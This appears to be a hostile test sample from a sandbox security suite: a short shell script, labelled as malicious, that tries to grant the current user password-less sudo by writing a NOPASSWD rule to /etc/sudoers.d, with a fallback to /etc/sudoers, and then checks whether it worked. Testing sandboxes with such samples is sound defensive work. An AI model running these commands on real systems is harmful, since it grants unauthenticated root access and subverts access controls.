#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: gives the current user password-less sudo (T1548.003).
# Inert: /etc/sudoers and /etc/sudoers.d are refused to the sandbox user.
me=$(id -un)
echo "$me ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/90-cloud-users >/dev/null 2>&1 ||
  echo "$me ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers 2>/dev/null || echo "sudoers: refused"
sudo -n true 2>/dev/null && echo "sudo without a password" || echo "sudo: still asks"
exit 0
